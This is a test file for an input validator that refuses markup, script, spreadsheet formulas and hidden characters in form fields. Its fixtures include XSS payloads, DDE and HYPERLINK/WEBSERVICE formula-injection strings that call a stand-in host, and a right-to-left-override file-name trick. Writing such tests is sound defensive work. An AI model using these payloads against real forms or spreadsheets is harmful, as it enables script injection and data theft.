import fc from 'fast-check';
import { Type } from 'typebox';
import { describe, expect, it } from 'vitest';
import { Prose, Secret, TEXT_FAULTS, TEXT_KINDS, textFault, unsafeText } from './text.ts';

const HONEST = [
  '<3 年',
  'A&B',
  '收入 < 5000 且 > 0',
  '面积(㎡)<=90',
  '“放管服”改革—2026（试行）',
  'PM2.5 < PM10',
  '《统计法》第二十一条',
  '张三·买买提',
  '欧阳𠮷',
  'O’Brien & Söhne',
  '100%',
  "it's",
  '￥1,000.00 ≥ 0',
  'JavaScript：前端开发',
  '《data: 数据治理》',
  'on=开',
  '＜未填＞',
  '=5',
  '-3.5',
  '+86 851',
  '@省大数据局',
  '- Excel(xlsx) 或 CSV(UTF-8)',
  '= A1 | B1',
  '比例=SUM(甲)/SUM(乙)',
];
const PROGRAMS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//x.example>',
  '</script ><script>',
  '<img src=x onerror=alert(1)>',
  '<b onmouseover = "x()">',
  '<a\n href="x" onclick=x>',
  '<svg/onload=alert(1)>',
  '<iframe src=//x>',
  '<a href="javascript:alert(1)">',
  'java\tscript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '<object data=x>',
  '<math><mi xlink:href="x">',
  '<base href=//x>',
  '<style>@import url(//x)</style>',
];
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '  =HYPERLINK("https://x.example/?"&A1)',
  '=+WEBSERVICE("https://x.example")',
  '＝IMPORTXML(A1)',
  '=(SUM(A1:A9))',
];
const UNSEEN = [
  'a\u0000b',
  'a\u0007b',
  'a\u001bb',
  'a\u0085b',
  'user\u202egpj.exe',
  'a\u2066b',
  'a\u{e0041}b',
  'a\ud800b',
];

describe('text that people write', () => {
  it('of honest kinds stands as it is, in every kind of field', () => {
    for (const text of HONEST)
      for (const kind of TEXT_KINDS) expect(textFault(text, kind), `${kind}: ${text}`).toBeNull();
  });

  it('that would run is refused in every kind of field but secrets', () => {
    for (const text of PROGRAMS)
      for (const kind of ['line', 'label', 'prose'] as const)
        expect(textFault(text, kind), `${kind}: ${text}`).not.toBeNull();
  });

  it('that a spreadsheet would run is refused in every kind of field but secrets (CWE-1236)', () => {
    for (const text of FORMULAS)
      for (const kind of ['line', 'label', 'prose'] as const) expect(textFault(text, kind), text).toBe('formula');
    for (const text of FORMULAS) expect(textFault(text, 'secret')).toBeNull();
  });

  it('with unseen characters is refused in every kind of field but secrets', () => {
    for (const text of UNSEEN)
      for (const kind of ['line', 'label', 'prose'] as const)
        expect(textFault(text, kind), JSON.stringify(text)).toMatch(/control|hidden/);
  });

  it('may have line breaks in prose and in headings, not in names', () => {
    expect([
      textFault('第一行\n第二行\t尾', 'prose'),
      textFault('户籍\n地址', 'label'),
      textFault('张\n三', 'line'),
    ]).toEqual([null, null, 'control']);
  });

  it('may speak of tags in prose, not in names', () => {
    for (const text of ['<b>', '<!-- -->', '<p>一段</p>', '<a href="https://example.cn">']) {
      expect(textFault(text, 'prose'), text).toBeNull();
      expect(textFault(text, 'line'), text).toBe('markup');
    }
  });

  it('opens no tag in a name, whatever surrounds it (WHATWG HTML 13.2.5.6)', () => {
    fc.assert(
      fc.property(fc.string(), fc.constantFrom(...'abzAZ/!?'), fc.string(), (before, opens, after) => {
        expect(textFault(`${before}<${opens}${after}`, 'line')).not.toBeNull();
      }),
    );
  });

  it('of Chinese characters, punctuation, digits and signs with spaces is never refused', () => {
    const sign = fc.constantFrom(
      ...'，。、；：？！“”‘’（）《》〈〉【】—…·％＋－×÷＝≤≥＜＞0123456789 <>&%+-=()[]{}.,:;#@*',
    );
    const character = fc.integer({ min: 0x4e00, max: 0x9fa5 }).map((code) => String.fromCodePoint(code));
    fc.assert(
      fc.property(fc.array(fc.oneof(character, sign), { maxLength: 60 }), (parts) => {
        expect(textFault(parts.join(''), 'line')).toBeNull();
      }),
    );
  });

  it('takes time in proportion to its length', () => {
    // patterns with nested choices would not come back from these
    for (const piece of ['<a ', '<', '<a onx', 'j a v a ', '<a x="', 'data: ', '< / ', ' on', '= ', '=|', '=+', '=a'])
      expect(() => textFault(piece.repeat(200_000), 'prose')).not.toThrow();
  });

  it('is told with what to do about it, in both languages', () => {
    for (const { what, mend } of Object.values(TEXT_FAULTS))
      for (const text of [what, mend]) {
        expect(text.zh).toMatch(/[\u4e00-\u9fff]/);
        expect(text.en).toMatch(/[a-z]/);
      }
  });
});

describe('the text of a request', () => {
  const Body = Type.Object({
    name: Type.String(),
    reason: Type.Optional(Prose()),
    password: Type.Optional(Secret()),
    names: Type.Optional(Type.Array(Type.Object({ zh: Type.String() }))),
    email: Type.Optional(Type.Union([Type.String(), Type.Null()])),
    input: Type.Optional(Type.Unsafe<object>({ type: 'object', 'x-text': 'prose', 'x-labels': ['title'] })),
  });
  const found = (value: unknown) => unsafeText(Body, value);

  it('is looked at wherever it lies, by the kind that its place has', () => {
    expect(found({ name: '<b>' })).toEqual({ where: 'name', fault: 'markup' });
    expect(found({ reason: '<b>', password: '<script>' })).toBeNull();
    expect(found({ names: [{ zh: 'a' }, { zh: '<b>' }] })).toEqual({ where: 'names[1].zh', fault: 'markup' });
    expect(found({ email: '<b>' })).toEqual({ where: 'email', fault: 'markup' });
    expect(found({ input: { note: '<b>', list: [{ title: '<b>' }] } })).toEqual({
      where: 'input.list[0].title',
      fault: 'markup',
    });
    expect(found({ input: { note: ['<script>'] } })).toEqual({ where: 'input.note[0]', fault: 'active' });
  });

  it('is looked at also where the schema knows nothing of it', () => {
    expect(found({ unknown: [{ deep: '<b>' }] })).toEqual({ where: 'unknown[0].deep', fault: 'markup' });
    expect(found({ input: { '<script>': 1 } })).toEqual({ where: 'input', fault: 'markup' });
    expect(found('<b>')).toEqual({ where: '', fault: 'markup' });
  });
});
